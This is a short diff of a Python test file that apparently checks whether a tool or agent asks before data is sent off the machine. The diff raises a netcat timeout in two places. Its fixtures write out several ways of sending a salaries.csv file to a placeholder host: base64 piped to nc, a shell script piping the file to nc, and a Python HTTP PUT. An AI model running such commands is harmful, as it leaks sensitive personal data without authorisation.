@@ -55,13 +55,13 @@ def test_local_use_is_not_asked(scene):
 
 
 WAYS = {
-    "pipe": "base64 salaries.csv | nc -N -w 5 remote 9",
+    "pipe": "base64 salaries.csv | nc -N -w 90 remote 9",
     "copy": f"cp salaries.csv copy && {upload('copy')}",
     "script": "./backup.sh",
     "python": "python3 send.py",
 }
 FILES = {
-    "backup.sh": "#!/bin/sh\ndata=$(cat salaries.csv)\nfor try in 1; do\n  printf '%s\\n' \"$data\" | nc -N -w 5 remote 9\ndone\n",
+    "backup.sh": "#!/bin/sh\ndata=$(cat salaries.csv)\nfor try in 1; do\n  printf '%s\\n' \"$data\" | nc -N -w 90 remote 9\ndone\n",
     "send.py": "import http.client\n"
                "connection = http.client.HTTPConnection('remote', timeout=90)\n"
                "connection.request('PUT', '/salaries', body=open('salaries.csv', 'rb').read())\n"
